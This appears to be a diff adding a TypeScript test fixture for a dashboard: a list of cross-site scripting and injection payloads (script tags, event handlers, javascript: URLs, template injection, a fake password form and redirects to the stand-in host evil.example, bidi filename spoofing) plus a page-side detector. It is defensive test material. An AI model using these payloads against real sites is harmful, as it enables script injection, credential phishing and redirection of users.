@@ -1,0 +1,54 @@
+/** Each would call this if it were ever taken for more than text: it opens a dialog and leaves a mark. */
+const strike = "alert(window.pwned=1)";
+/** Nothing is there; asking for it is the offence. */
+const evilHost = "evil.example";
+
+/**
+ * Texts as somebody might give them who wants a reader of the dashboard to run, load or misread something. At most 100 characters each,
+ * the shortest limit of the fields that they go into.
+ */
+export const payloads = [
+  `<script>${strike}</script>`,
+  `"><img src=x onerror=${strike}>`,
+  `'><svg onload=${strike}>`,
+  `</script><script>${strike}</script>`,
+  `</title></style></textarea><img src=x onerror=${strike}>`,
+  `javascript:${strike}//`,
+  `<a href="javascript:${strike}" autofocus>press me</a>`,
+  `{{constructor.constructor('${strike}')()}} \${${strike}}`,
+  `<iframe srcdoc="<script>parent.${strike}</script>"></iframe>`,
+  `<x onfocus=${strike} autofocus tabindex=1>`,
+  `<details open ontoggle=${strike}><summary>x`,
+  `<img src=//${evilHost}/pixel.png><link rel=stylesheet href=//${evilHost}/a.css>`,
+  `<meta http-equiv=refresh content="0;url=//${evilHost}/"><base href=//${evilHost}/>`,
+  `<form action=//${evilHost}/><input name=password><button autofocus>Sign in`,
+  `&lt;img src=x onerror=${strike}&gt; &#60;svg onload=${strike}&#62;`,
+  "\u202Egnp.exe\u202C and \u2067after\u2069 \u200Fthe end",
+  "W".repeat(100),
+];
+
+/** The same in few texts of at most so many characters: a page for each payload would take minutes. */
+export function payloadsJoined(maxLength: number): string[] {
+  const joined: string[] = [];
+  for (const payload of payloads) {
+    const longer = `${joined.at(-1) ?? ""} ${payload}`;
+    if (joined.length > 0 && longer.length <= maxLength) joined[joined.length - 1] = longer;
+    else joined.push(payload);
+  }
+  return joined;
+}
+
+/** A mailbox with any text as its name (RFC 5322 §3.2.4: a quoted string). */
+export function mailboxOf(name: string, address: string): string {
+  return `"${name.replace(/["\\]/g, "\\$&")}" <${address}>`;
+}
+
+/** Run in a page: what of the payloads has become part of the document, or has run. */
+export const damageOnPage = `(() => {
+  const handlers = ["onerror", "onload", "onfocus", "ontoggle"].map((name) => "[" + name + "]").join(",");
+  const planted = 'iframe[srcdoc], x, base, meta[http-equiv], a[href^="javascript:" i], [href*="${evilHost}"], [src*="${evilHost}"], [action*="${evilHost}"]';
+  return [
+    ...[...document.querySelectorAll(handlers + "," + planted)].map((element) => element.outerHTML.slice(0, 200)),
+    ...("pwned" in window ? ["a script ran"] : []),
+  ];
+})()`;
